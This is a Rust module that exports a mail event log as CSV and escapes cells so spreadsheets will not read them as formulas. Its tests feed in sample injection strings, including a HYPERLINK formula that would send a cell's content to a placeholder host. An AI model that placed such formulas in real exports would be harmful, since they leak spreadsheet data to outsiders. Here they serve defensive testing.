//! The event log as comma-separated values (RFC 4180), for spreadsheets.
//!
//! Sender, subject and folder are written by strangers, and a spreadsheet takes a cell that begins with `=`, `+`,
//! `-` or `@` for a formula, which can send the sheet's content away. Such a cell gets an apostrophe in front, which
//! spreadsheets understand as "this is text". Line ends within a cell become spaces.

use crate::{EventRecord, Timestamp};

/// The first line: the names of the columns, the same as in JSON.
pub const HEADER: &str = "id,at,account_id,account,folder,kind,uidvalidity,uid,from,subject,message_id,date,detail,\
                          live,decision,reason,rule,told_at,list,together,news,due,command\r\n";

/// One record as a line, with its end.
#[must_use]
pub fn line(record: &EventRecord) -> String {
    let time = |at: Option<Timestamp>| at.map(|at| at.to_string()).unwrap_or_default();
    let number = |number: Option<u32>| number.map(|number| number.to_string()).unwrap_or_default();
    let text = |text: &Option<String>| cell(text.as_deref().unwrap_or_default());
    let cells = [
        record.id.0.to_string(),
        record.at.to_string(),
        cell(&record.account_id.0),
        cell(&record.account),
        text(&record.folder),
        record.kind.name().to_owned(),
        number(record.uidvalidity),
        number(record.uid),
        text(&record.from),
        text(&record.subject),
        text(&record.message_id),
        time(record.date),
        text(&record.detail),
        record.live.to_string(),
        record.decision.name().to_owned(),
        cell(&record.reason),
        text(&record.rule),
        time(record.told_at),
        text(&record.list),
        record.together.to_string(),
        record.news.to_string(),
        time(record.due),
        text(&record.command),
    ];
    let mut line = cells.join(",");
    line.push_str("\r\n");
    line
}

/// A cell of text: what a spreadsheet would take for a formula is marked as text, and what a reader would take for
/// the end of the cell stands in quotes.
fn cell(text: &str) -> String {
    // Spreadsheets look past white space at the beginning.
    let first = text.trim_start().chars().next();
    let is_formula = first.is_some_and(|first| "=+-@＝＋－＠".contains(first));
    let one_line: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    let safe = if is_formula { format!("'{one_line}") } else { one_line };
    let needs_quotes = safe.contains([',', '"', ';'])
        || safe.starts_with(char::is_whitespace)
        || safe.ends_with(char::is_whitespace);
    if needs_quotes { format!("\"{}\"", safe.replace('"', "\"\"")) } else { safe }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{AccountId, DecisionKind, EventId, EventKind};

    fn record(from: &str, subject: &str) -> EventRecord {
        EventRecord {
            id: EventId(7),
            at: Timestamp::from_millis(1_795_425_151_482),
            account_id: AccountId("a1".to_owned()),
            account: "ann@example.org".to_owned(),
            folder: Some("INBOX".to_owned()),
            kind: EventKind::Arrived,
            uidvalidity: Some(1),
            uid: None,
            from: Some(from.to_owned()),
            subject: Some(subject.to_owned()),
            message_id: None,
            date: None,
            detail: None,
            live: true,
            decision: DecisionKind::Show,
            reason: "new mail".to_owned(),
            list: None,
            together: 1,
            news: true,
            rule: None,
            due: None,
            command: None,
            told_at: None,
        }
    }

    #[test]
    fn a_record_is_a_line_of_as_many_cells_as_the_header_has() {
        let line = line(&record("Ann", "订单"));
        assert_eq!(
            line,
            "7,2026-11-23T09:12:31.482Z,a1,ann@example.org,INBOX,arrived,1,,Ann,订单,,,,true,show,new mail,,,,1,true,,\r\n"
        );
        assert_eq!(line.matches(',').count(), HEADER.matches(',').count());
    }

    #[test]
    fn the_header_names_what_json_names() {
        let json = serde_json::to_value(record("a", "b")).unwrap();
        let mut named: Vec<&str> = HEADER.trim_end().split(',').collect();
        let mut known: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
        named.sort_unstable();
        known.sort_unstable();
        assert_eq!(named, known);
    }

    #[test]
    fn quotes_commas_and_line_ends_stay_in_their_cell() {
        for (text, written) in [
            ("a, b", "\"a, b\""),
            ("say \"no\"", "\"say \"\"no\"\"\""),
            ("two\r\nlines", "two  lines"),
            ("a;b", "\"a;b\""),
            (" x", "\" x\""),
            ("plain", "plain"),
            ("", ""),
        ] {
            assert_eq!(cell(text), written, "{text:?}");
        }
    }

    #[test]
    fn no_cell_that_a_stranger_wrote_is_a_formula() {
        for text in
            ["=HYPERLINK(\"http://x/\"&A1)", "+1", "-1", "@SUM(A1)", "\t=1", "  =1", "\r=1", "＝1", "＋1"]
        {
            let cell = cell(text);
            assert!(cell.trim_start_matches('"').starts_with('\''), "{text:?}: {cell}");
        }
        assert_eq!(cell("a=b"), "a=b");
    }
}
